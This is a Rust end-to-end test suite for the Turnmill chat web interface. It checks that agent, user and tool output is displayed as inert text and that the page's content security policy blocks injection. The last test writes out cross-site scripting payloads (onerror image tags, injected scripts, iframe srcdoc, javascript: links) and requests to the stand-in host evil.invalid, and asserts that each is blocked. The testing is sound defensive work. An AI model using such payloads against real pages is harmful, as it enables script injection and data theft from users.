//! What agents, users and tools say is text, whatever it looks like: shown letter by letter, and nothing of it happens.

use std::collections::BTreeMap;

use serde_json::{Value, json};
use sqlx::PgPool;
use turnmill::store::{Enqueue, PoolChange};

use crate::browser::ENTER;
use crate::talk::Chat;

/// Each tries to do something or to look like something else; what could run would set `window.__pwned`, call `alert` or ask
/// evil.invalid for something.
fn corpus() -> BTreeMap<String, String> {
    let mut corpus: BTreeMap<String, String> = serde_json::from_str(include_str!("../fixtures/hostile.json")).unwrap();
    corpus.insert("a lot".to_owned(), "<b>much</b> ".repeat(10_000));
    corpus
}

/// Everything that the page is made of: anything else has come out of a text.
const ELEMENTS: &str = "header h1 p bdi button main div footer form label textarea noscript code section span pre details summary ul li a";
const ATTRIBUTES: &str = "id class type role hidden title for rows placeholder autofocus tabindex open href download disabled";

const STRANGERS: &str = "const [elements, attributes] = arguments[0].map((words) => new Set(words.split(' ')));
    return [...document.body.querySelectorAll('*')].filter((one) => !elements.has(one.localName)
        || [...one.attributes].some(({ name }) => !attributes.has(name) && !name.startsWith('aria-') && !name.startsWith('data-'))
        || (one.localName === 'a' && !one.href.startsWith(location.origin + '/v1/turns/'))
        || (one.matches(':is(.said, .content, .thinking, .error, .name, .parameters, pre, .session bdi, .files a, .files bdi):not(:has(> details))') && one.children.length > 0))
      .map((one) => one.outerHTML.slice(0, 200))";

impl Chat {
    /// Nothing has come of anything that was said.
    async fn nothing_happened(&self) {
        let browser = &self.talk.browser;
        browser.client.get_alert_text().await.expect_err("no dialog is open");
        assert_eq!(browser.value("typeof window.__pwned").await, "undefined");
        assert_eq!(browser.run(STRANGERS, json!([ELEMENTS, ATTRIBUTES])).await, json!([]));
        assert_eq!(browser.value("document.title").await, "Turnmill chat");
        assert_eq!(browser.client.windows().await.unwrap().len(), 1);
        let elsewhere: Vec<String> = browser.requests().await.into_iter().filter(|url| !self.is_ours(url)).collect();
        assert_eq!(elsewhere, Vec::<String>::new());
    }

    fn is_ours(&self, url: &str) -> bool {
        let rest = url.strip_prefix(&self.talk.site.url);
        rest.is_some_and(|path| path.starts_with("/chat") || path.starts_with("/v1/")) || url == "about:blank"
    }

    /// Into the message, without keys: those of the driver know only half of all characters.
    async fn paste_and_send(&self, message: &str) {
        self.talk.browser.run("document.getElementById('message').value = arguments[0]", json!(message)).await;
        self.talk.browser.press(&[ENTER]).await;
    }
}

#[sqlx::test(migrator = "turnmill::store::MIGRATOR")]
async fn whatever_an_agent_says_is_shown_as_it_is_and_does_nothing(pool: PgPool) {
    let chat = Chat::start(pool).await;
    // Also while it is being said.
    chat.all.fleet.store.set_pool("default", &PoolChange { previews: Some(true), ..PoolChange::default() }).await.unwrap();
    let mut steps = Vec::new();
    // Letter by letter, a long one would take its time; one comes below.
    let short: BTreeMap<String, String> = corpus().into_iter().filter(|(_, text)| text.len() < 10_000).collect();
    for (name, text) in &short {
        let call = |failed: bool| json!({ "name": text, "input": { "text": text, text.as_str(): name }, "result": text, "failed": failed });
        steps.extend([json!({ "thinking": text }), json!({ "text": text }), json!({ "tool": call(false) }), json!({ "tool": call(true) })]);
    }
    let script = chat.all.e2b.dir.path().join("hostile-script.json");
    std::fs::write(&script, json!({ "steps": steps }).to_string()).unwrap();
    chat.talk.say(&format!("/mock {}", script.display())).await;
    chat.talk.has(1, "completed").await;
    assert_eq!(chat.talk.blocks().await.len(), short.len() * 6);
    chat.all_is_shown().await;
    chat.nothing_happened().await;
    // NUL, halves of surrogate pairs, no UTF-8, lines that are no events, two megabytes without a blank.
    chat.talk.say("/mock hostile").await;
    chat.talk.has(2, "completed").await;
    chat.all_is_shown().await;
    chat.talk.browser.run("for (const one of document.querySelectorAll('details')) one.open = true", Value::Null).await;
    chat.talk.browser.reload().await;
    chat.talk.has(2, "completed").await;
    chat.all_is_shown().await;
    chat.nothing_happened().await;
    chat.stop().await;
}

#[sqlx::test(migrator = "turnmill::store::MIGRATOR")]
async fn whatever_a_user_says_is_shown_as_it_is_and_does_nothing(pool: PgPool) {
    let chat = Chat::start(pool).await;
    let all: Vec<String> = corpus().into_values().collect();
    let message = format!("/mock noop\n{}", all.join("\n"));
    chat.paste_and_send(&message).await;
    chat.talk.has(1, "completed").await;
    // A text area has no line ends but its own.
    let written = message.replace("\r\n", "\n").replace('\r', "\n");
    assert!(chat.talk.browser.texts(".said pre").await == [written.as_str()], "as it was sent");
    chat.talk.browser.reload().await;
    chat.talk.browser.until("document.querySelector('.said pre')?.textContent.startsWith('/mock noop')").await;
    assert!(chat.talk.browser.texts(".said pre").await == [written.as_str()], "as it was read");
    chat.nothing_happened().await;
    // What is refused is said in the server's words, not in the user's.
    chat.paste_and_send("nul \0 <img src=x onerror=window.__pwned=1>").await;
    chat.talk.browser.until("document.getElementById('notice').textContent.startsWith('Not sent: ')").await;
    chat.nothing_happened().await;
    chat.stop().await;
}

#[sqlx::test(migrator = "turnmill::store::MIGRATOR")]
async fn failures_ids_and_files_are_shown_as_they_are_and_do_nothing(pool: PgPool) {
    let chat = Chat::with(pool, |config| config.retry.agent_tries = 1).await;
    let all: Vec<String> = corpus().into_values().filter(|text| text.len() < 200 && !text.trim().is_empty()).collect();
    assert!(all.len() > 25, "most are short");
    let file = |name: &str| chat.all.e2b.dir.path().join(name);
    for (nth, text) in all.iter().enumerate() {
        let failing = json!({ "steps": [{ "api_error": { "error": "overloaded", "status": 529, "message": text } }] });
        std::fs::write(file(&format!("{nth}.json")), failing.to_string()).unwrap();
        let turn = Enqueue {
            prompt: format!("/mock {}", file(&format!("{nth}.json")).display()),
            project_id: Some(text.clone()),
            session_id: Some(format!("{nth} {text}")),
            turn_id: Some(text.clone()),
            ..Enqueue::default()
        };
        chat.all.fleet.store.enqueue(&turn).await.unwrap();
    }
    for (nth, text) in all.iter().enumerate() {
        assert_eq!(chat.all.fleet.ended(text).await.status, "failed");
        chat.talk.open(&encoded(&format!("{nth} {text}"))).await;
        chat.talk.has(1, "failed").await;
        assert_eq!((chat.talk.turns().await, chat.talk.texts().await), (vec![text.clone()], vec![format!("the agent failed: {text}")]));
        assert_eq!(chat.talk.browser.texts("#session").await, [format!("{nth} {text}")]);
        chat.talk.browser.until("document.querySelector('.said').textContent.startsWith('/mock /')").await;
    }
    chat.nothing_happened().await;

    // Of the names of files a part can be what a file system takes.
    let names: Vec<String> = all.iter().map(|text| text.replace('/', "\u{2215}")).filter(|name| name.len() < 200).collect();
    let mut steps: Vec<Value> = names.iter().map(|name| json!({ "write": { "path": name, "text": "x" } })).collect();
    steps.push(json!({ "text": "Written." }));
    std::fs::write(file("files.json"), json!({ "steps": steps }).to_string()).unwrap();
    chat.talk.open("").await;
    chat.talk.say(&format!("/mock {}", file("files.json").display())).await;
    chat.talk.browser.until("document.querySelector('.files')").await;
    let mut listed = chat.talk.browser.texts(".files a, .files bdi").await;
    listed.sort();
    let mut expected = names;
    expected.sort();
    assert_eq!(listed, expected);
    chat.nothing_happened().await;
    chat.stop().await;
}

#[sqlx::test(migrator = "turnmill::store::MIGRATOR")]
async fn should_a_text_ever_become_html_the_browser_itself_stops_it(pool: PgPool) {
    let chat = Chat::start(pool).await;
    let browser = &chat.talk.browser;
    browser.requests().await;
    // As if the page had a hole: no text becomes HTML or a script, …
    for hole in [
        "document.body.innerHTML += '<img src=x onerror=window.__pwned=1>'",
        "document.write('<script>window.__pwned=1</script>')",
        "setTimeout('window.__pwned=1')",
        "const made = document.createElement('script'); made.textContent = 'window.__pwned=1'; document.body.append(made)",
        "const made = document.createElement('script'); made.src = 'http://evil.invalid/x.js'; document.body.append(made)",
        "const made = document.createElement('iframe'); made.srcdoc = '<script>parent.__pwned=1</script>'; document.body.append(made)",
    ] {
        let said = browser.run(&format!("try {{ {hole}; return 'done' }} catch (error) {{ return error.name }}"), Value::Null).await;
        assert_eq!(said, "TypeError", "{hole}");
    }
    // … and elements without a text get nothing from anywhere and send nothing.
    let through = "const made = (name, attributes) => {
          const one = document.createElement(name);
          for (const [key, value] of Object.entries(attributes)) one.setAttribute(key, value);
          document.body.append(one);
          return one; };
        made('img', { src: 'http://evil.invalid/beacon' });
        made('link', { rel: 'stylesheet', href: 'http://evil.invalid/s.css' });
        made('iframe', { src: 'http://evil.invalid/' });
        made('style', {}).append('body { display: none }');
        made('form', { action: 'http://evil.invalid/' }).submit();
        made('a', { href: 'javascript:window.__pwned=1' }).click();
        fetch('http://evil.invalid/').catch(() => null);";
    browser.run(through, Value::Null).await;
    browser.until("['img-src', 'style-src-elem', 'frame-src', 'form-action', 'connect-src', 'script-src-elem'].every((kind) => blocked.some((one) => one.startsWith(kind)))").await;
    assert_eq!(browser.value("typeof window.__pwned").await, "undefined");
    assert_eq!(browser.value("getComputedStyle(document.body).display").await, "flex");
    // What Chromium draws in a frame that is blocked is its own.
    let elsewhere: Vec<String> = browser.requests().await.into_iter().filter(|url| url.starts_with("http") && !chat.is_ours(url)).collect();
    assert_eq!(elsewhere, Vec::<String>::new(), "asked of nobody");
    chat.talk.browser.close().await;
    chat.all.stop().await;
}

/// As an address has it.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}
